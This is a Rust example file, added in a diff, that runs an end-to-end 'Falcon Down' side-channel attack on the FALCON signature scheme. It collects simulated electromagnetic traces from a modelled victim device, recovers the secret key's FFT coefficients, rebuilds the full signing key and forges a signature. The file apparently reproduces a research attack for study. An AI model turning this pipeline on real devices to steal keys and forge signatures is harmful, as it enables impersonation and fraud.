@@ -1,0 +1,95 @@
+//! End-to-end *Falcon Down* attack: from EM traces to a forged signature.
+//!
+//! 1. A victim device signs messages; the bench captures the EM traces of
+//!    the `FFT(c) ⊙ FFT(f)` region.
+//! 2. The adversary recovers every 64-bit coefficient of `FFT(f)` by
+//!    divide-and-conquer with extend-and-prune.
+//! 3. Inverse FFT gives `f`; the public key gives `g = h·f mod q`; the
+//!    NTRU equation gives `(F, G)`; the rebuilt key signs an arbitrary
+//!    message that verifies under the victim's public key.
+//!
+//! Run with:
+//! ```text
+//! cargo run --release --example full_attack [logn] [n_traces] [noise_sigma]
+//! ```
+//! Defaults: `logn = 6`, `n_traces = 700`, `noise_sigma = 2.0` — about a
+//! minute of work. The paper's measurement regime corresponds to
+//! `noise_sigma ≈ 8.6` with ~10k traces (slower; same code path).
+
+use falcon_down::dema::attack::{recover_all_verified, AttackConfig};
+use falcon_down::dema::recover::key_from_fft_bits;
+use falcon_down::dema::Dataset;
+use falcon_down::emsim::{Device, LeakageModel, MeasurementChain, Scope};
+use falcon_down::sig::rng::Prng;
+use falcon_down::sig::{KeyPair, LogN};
+use std::time::Instant;
+
+fn main() {
+    let mut args = std::env::args().skip(1);
+    let logn = args.next().and_then(|s| s.parse().ok()).unwrap_or(6u32);
+    let n_traces = args.next().and_then(|s| s.parse().ok()).unwrap_or(700usize);
+    let noise = args.next().and_then(|s| s.parse().ok()).unwrap_or(2.0f64);
+    let params = LogN::new(logn).expect("logn in 1..=10");
+    let n = params.n();
+
+    println!("== Victim setup: FALCON-{n}, noise σ = {noise} ==");
+    let mut rng = Prng::from_seed(b"full attack victim key");
+    let t = Instant::now();
+    let kp = KeyPair::generate(params, &mut rng);
+    let vk = kp.verifying_key().clone();
+    println!("victim keygen: {:?}", t.elapsed());
+
+    let chain = MeasurementChain {
+        model: LeakageModel::hamming_weight(1.0, noise),
+        lowpass: 0.0,
+        scope: Scope::default(),
+    };
+    let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
+    let mut device = Device::new(kp.into_parts().0, chain, b"full attack bench");
+
+    println!("\n== Acquisition: {n_traces} traces of the FFT(c)⊙FFT(f) region ==");
+    let targets: Vec<usize> = (0..n).collect();
+    let mut msg_rng = Prng::from_seed(b"full attack messages");
+    let t = Instant::now();
+    let ds = Dataset::collect(&mut device, &targets, n_traces, &mut msg_rng);
+    println!("acquisition: {:?}", t.elapsed());
+
+    println!("\n== Recovery: divide-and-conquer with extend-and-prune ==");
+    let cfg = AttackConfig::default();
+    let t = Instant::now();
+    let results: Vec<_> = recover_all_verified(&ds, &cfg);
+    let elapsed = t.elapsed();
+    let correct = results
+        .iter()
+        .zip(&truth)
+        .filter(|((r, _), &want)| r.bits == want)
+        .count();
+    println!("recovery: {elapsed:?}");
+    println!("coefficients recovered exactly: {correct}/{n}");
+    for (i, (r, conf)) in results.iter().take(4).enumerate() {
+        println!(
+            "  FFT(f)[{i}] = {:#018x}  (truth {:#018x})  confidence {:.3}, mant-lo corr {:.3}",
+            r.bits, truth[i], conf, r.mant_lo.corr
+        );
+    }
+    let results: Vec<_> = results.into_iter().map(|(r, _)| r).collect();
+    if correct != n {
+        println!("!! not all coefficients recovered — increase n_traces or lower noise");
+        std::process::exit(1);
+    }
+
+    println!("\n== Key recovery: invert FFT, derive g, solve NTRU ==");
+    let bits: Vec<u64> = results.iter().map(|r| r.bits).collect();
+    let t = Instant::now();
+    let recovered = key_from_fft_bits(&bits, &vk).expect("full key recovery");
+    println!("key recovery (incl. NTRU solve): {:?}", t.elapsed());
+    println!("  recovered f[0..8] = {:?}", &recovered.sk.f()[..8.min(n)]);
+
+    println!("\n== Forgery: sign an arbitrary message with the stolen key ==");
+    let msg = b"transfer all funds to the adversary";
+    let forged = recovered.sk.sign(msg, &mut msg_rng);
+    let ok = vk.verify(msg, &forged);
+    println!("victim verifies forged signature: {ok}");
+    assert!(ok, "forgery must verify");
+    println!("\nFALCON is down: the signing key is fully compromised.");
+}
